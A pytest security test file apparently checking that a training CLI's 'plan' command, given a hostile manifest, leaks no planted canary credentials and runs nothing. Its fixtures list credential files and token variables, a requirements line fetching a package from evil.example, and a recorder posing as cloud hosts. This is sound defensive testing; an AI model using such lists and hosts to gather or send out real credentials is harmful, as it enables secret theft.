"""A stranger's manifest, planned by a runner that has credentials in every usual place: none leaves, and nothing of it is run.

The runner lives in a network where every address is a recorder's, which answers as any host, over TLS that the runner trusts.
"""

from __future__ import annotations

import base64
import json
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.support.cases import cases
from tests.support.network import netns
from tests.support.projects.project import ProjectHarness, project
from tests.support.servers.certificate_authority import authority, issue_certificate

ROOT = Path(__file__).parents[2]
NAMES = (
    "evil.example", "*.evil.example", "huggingface.co", "*.huggingface.co", "*.amazonaws.com", "*.s3.amazonaws.com",
    "*.us-east-1.amazonaws.com", "*.us-west-2.amazonaws.com", "*.googleapis.com", "*.blob.core.windows.net",
    "*.r2.cloudflarestorage.com", "login.microsoftonline.com", "metadata.google.internal",
)  # fmt: skip
VARIABLES = (
    "HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN",
    "AZURE_CLIENT_SECRET", "AZURE_STORAGE_KEY", "AZURE_STORAGE_ACCOUNT_KEY", "AZURE_STORAGE_SAS_TOKEN", "GOOGLE_API_KEY",
    "GITHUB_TOKEN", "WANDB_API_KEY", "GOOGLE_SERVICE_ACCOUNT_KEY",
)  # fmt: skip


def canary(place: str) -> str:
    """The credential of one place."""
    return f"canary{''.join(filter(str.isalnum, place))}0123456789"


def files_with_credentials(home: Path) -> dict[str, str]:
    """Where programs keep credentials, and what is there."""
    login = base64.b64encode(f"me:{canary('docker')}".encode()).decode()
    google = {
        "type": "authorized_user",
        "client_id": canary("google-client"),
        "client_secret": canary("google-secret"),
        "refresh_token": canary("google-refresh"),
    }
    hosts = "".join(
        f"machine {name} login me password {canary('netrc')}\n"
        for name in ("evil.example", "203.0.113.7")
    )
    return {
        ".cache/huggingface/token": canary("hf-file"),
        ".aws/credentials": f"[default]\naws_access_key_id = {canary('aws-file-id')}\naws_secret_access_key = {canary('aws-file')}\n",
        ".netrc": hosts + f"default login me password {canary('netrc-default')}\n",
        ".docker/config.json": json.dumps({"auths": {"registry.evil.example": {"auth": login}, "evil.example": {"auth": login}}}),
        ".git-credentials": f"https://me:{canary('git')}@evil.example\n",
        ".gitconfig": "[credential]\n\thelper = store\n",
        ".config/gcloud/application_default_credentials.json": json.dumps(google),
        ".azure/msal_token_cache.json": json.dumps({"secret": canary("azure-file")}),
        "outside.txt": canary("outside"),
    }  # fmt: skip


@dataclass
class Runner:
    """The runner of pull requests, and what everybody else has heard of it."""

    work: ProjectHarness
    heard: Path

    def lines(self) -> list[dict[str, str]]:
        text = self.heard.read_text() if self.heard.exists() else ""
        return [json.loads(line) for line in text.splitlines()]

    def leaks(self) -> list[tuple[str, str]]:
        """Each credential that somebody heard, as it is or in base64, and who. A credential may be told to its own platform."""
        top = self.work.directory.parent
        values = [canary(name) for name in VARIABLES]
        values += [
            word
            for text in files_with_credentials(top / "home").values()
            for word in text.replace('"', " ").replace(":", " ").replace("@", " ").split()
            if word.startswith("canary")
        ]
        result = []
        for line in self.lines():
            output = line["said"] + "".join(_decoded(line["said"]))
            result += [(value, line["name"]) for value in values if value in output]
        return result


def _decoded(text: str) -> Iterator[str]:
    for word in text.split():
        try:
            yield base64.b64decode(word, validate=True).decode("latin-1")
        except ValueError:
            continue


@pytest.fixture(scope="module")
def network(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """The network namespace, and what the recorder writes down."""
    if absent := netns.missing():
        pytest.skip(f"needs {absent}")
    heard = tmp_path_factory.mktemp("heard") / "heard.jsonl"
    certificate, key = issue_certificate(*NAMES)
    with netns.sink_namespace() as name:
        inside = ["ip", "netns", "exec", name]
        argv = [*inside, sys.executable, "-m", "tests.support.network.traffic_recorder"]
        with subprocess.Popen(
            [*argv, str(heard), str(certificate), str(key)],
            cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
        ) as recorder:  # fmt: skip
            assert recorder.stdout is not None
            assert recorder.stdin is not None
            assert recorder.stdout.readline() == "listening\n"
            yield f"/run/netns/{name}", heard
            recorder.stdin.close()


@pytest.fixture
def runner(tmp_path: Path, network: tuple[str, Path]) -> Iterator[Runner]:
    """A runner with a credential in every usual place, and a pull request checked out."""
    namespace, heard = network
    heard.unlink(missing_ok=True)
    with project(tmp_path) as work:
        work.namespace = namespace
        home = tmp_path / "home"
        for name, text in files_with_credentials(home).items():
            path = home / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
            path.chmod(0o600)
        trusted = str(authority().certificates)
        work.variables |= {
            **{name: canary(name) for name in VARIABLES},
            "SSL_CERT_FILE": trusted, "REQUESTS_CA_BUNDLE": trusted, "AWS_CA_BUNDLE": trusted, "CURL_CA_BUNDLE": trusted,
            "AWS_EC2_METADATA_DISABLED": "true", "CI": "true",
        }  # fmt: skip
        ran = work.directory / "ran"
        script = f"#!/bin/sh\ntouch {ran}\necho {'x' * 20}\n"
        for name in ("evil/bin/python", "evil/bin/python3", "give"):
            work.write({name: script})
            (work.directory / name).chmod(0o755)
        work.write(
            {
                "train.py": "import nothing_like_this\n",
                "requirements.txt": "evil @ https://evil.example/evil.tar.gz\n",
            }
        )
        yield Runner(work, heard)


def write(runner: Runner, manifest: str) -> None:
    work = runner.work
    work.write({"trainctl.yaml": manifest.replace("DIRECTORY", str(work.directory))})
    if "path: link" in manifest:
        (work.directory / "link").symlink_to(work.directory.parent / "home" / "outside.txt")


def unharmed(runner: Runner) -> None:
    """No credential was heard by anybody but the Hub, which may know its own; nothing was run."""
    assert {leak for leak in runner.leaks() if leak[1] != "huggingface.co"} == set()
    assert {value for value, _ in runner.leaks()} <= {canary("HF_TOKEN")}
    assert not (runner.work.directory / "ran").exists()


@pytest.mark.parametrize("manifest", cases("hostile_manifest/refused"))
def test_only_trust_allows_it(runner: Runner, manifest: str) -> None:
    """A plan ends with 13, shows no credential, sends none, and runs nothing."""
    write(runner, manifest)
    done = runner.work.run("plan", code=13)
    assert "error" in done.stderr
    assert "canary" not in done.stdout + done.stderr
    unharmed(runner)


def test_credentials_of_a_server_of_the_environment_go_to_no_platform(runner: Runner) -> None:
    """If the environment names a server, its credential is for that server alone."""
    runner.work.variables["AWS_ENDPOINT_URL"] = "https://storage.own.example"
    platform = "https://s3.us-east-1.amazonaws.com"
    write(
        runner,
        f"weights: {{m: {{source: 's3://models/b', endpoint_url: '{platform}'}}}}\n"
        "jobs: {j: {weights: [m], runtime: {start_commands: [ls]}}}\n",
    )
    assert "only the manifest names this host" in runner.work.run("plan", code=13).stderr
    assert runner.leaks() == []


@pytest.mark.parametrize("manifest", cases("hostile_manifest/planned"))
def test_a_plan_gives_nothing_away(runner: Runner, manifest: str) -> None:
    """Whether there is a plan or not."""
    write(runner, manifest)
    done = runner.work.run("plan", code=None)
    assert done.returncode in (0, 1, 13, 64)
    assert "canary" not in done.stdout + done.stderr
    unharmed(runner)


def test_the_recorder_hears_a_trusted_token(runner: Runner) -> None:
    """So that silence in the other tests means something; checking secrets sends nothing in any case."""
    write(runner, cases("hostile_manifest/refused")[0].values[0])
    runner.work.run("secrets", "check", code=13)
    assert runner.lines() == []
    runner.work.trust('secret = "s"\nhosts = ["evil.example"]')
    runner.work.run("plan", code=1)
    assert (canary("HF_TOKEN"), "evil.example") in runner.leaks()
